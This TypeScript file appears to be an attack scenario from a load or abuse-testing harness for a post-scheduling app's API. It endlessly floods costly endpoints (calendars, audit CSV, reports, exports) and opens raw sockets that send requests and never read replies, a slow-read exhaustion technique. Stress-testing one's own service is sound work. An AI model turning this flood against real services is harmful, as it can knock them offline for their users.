import { connect } from 'node:net'
import type { Attacker } from '../attacker.ts'

const day = 86_400_000
const dayText = (moment: number) => new Date(moment).toISOString().slice(0, 10)

const atATime = 6
/** Clients that ask for the calendar and never read the answer. */
const stuckReaders = 6

/** Everything that an account with many posts can ask for at once: calendars, tables, reports, searches and exports, six at a time. */
export async function large(attacker: Attacker) {
  const { call, endlessly } = attacker
  const now = Date.now()
  const [from, until] = [now - 29 * day, now + 30 * day]
  const days = { fromDate: dayText(from), toDate: dayText(until) }
  const moments = { from: Math.floor(from / 1000), until: Math.floor(until / 1000) }
  const report = {
    source: 'post',
    dimension: 'campaign',
    unit: 'hour',
    top: 100,
    from: dayText(now - 58 * day),
    to: dayText(now),
    measures: ['postsSent', 'postsFailed', 'impressions', 'likes', 'comments', 'reshares', 'engagements'],
  }
  const runExport = await newExport(attacker)
  const asks = [
    () => call('POST /calendar', { body: days }),
    () => call('GET /app/api/audit.csv'),
    () => call('POST /app/api/calendar', { body: { ...moments, find: 'storms' } }),
    () => call('POST /app/api/report', { body: report }),
    () => call('POST /calendar', { body: { ...days, filters: { statuses: ['complete'] } } }),
    () => call(`POST /app/api/exports/${runExport}/run`),
    () => call('POST /app/api/calendar', { body: moments }),
    () => call('GET /message', { query: `campaignId=${attacker.targets.campaignId}&_count=100&_page=${now % 90}` }),
    () => call('GET /app/api/audit', { query: 'operation=POST%20/post/{id}&_count=100' }),
  ]
  await Promise.all([
    endlessly(atATime, (turn) => (asks[turn % asks.length] as () => Promise<unknown>)()),
    endlessly(stuckReaders, (turn) => stuck(attacker, turn, days)),
  ])
}

async function newExport({ call }: Attacker): Promise<string> {
  const destination = { email: 'mallory@example.com', firstName: 'Mallory', lastName: 'Large' }
  const body = { type: 'Posts', destinationType: 'email', destination, timeRange: 'all-time', status: 'active' }
  const { text } = await call('POST /app/api/exports', { body })
  return /"Id":"([^"]+)"/.exec(text)?.[1] ?? 'none'
}

/** Asks and reads nothing of the answer until somebody hangs up. */
function stuck({ targets, count }: Attacker, turn: number, days: object): Promise<void> {
  const { hostname, port } = new URL(targets.url)
  const body = JSON.stringify(days)
  const head = [
    'POST /v2/calendar HTTP/1.1',
    `Host: ${hostname}`,
    `Authorization: ${targets.users[turn % targets.users.length]}`,
    'Content-Type: application/json',
    `Content-Length: ${body.length}`,
    'Connection: close',
  ]
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname)
    socket.pause()
    socket.on('error', () => {})
    socket.once('close', () => {
      count('stuck reader ended')
      // Whoever is cut off at once does not come again at once.
      setTimeout(resolve, 1_000)
    })
    socket.write(`${head.join('\r\n')}\r\n\r\n${body}`)
  })
}
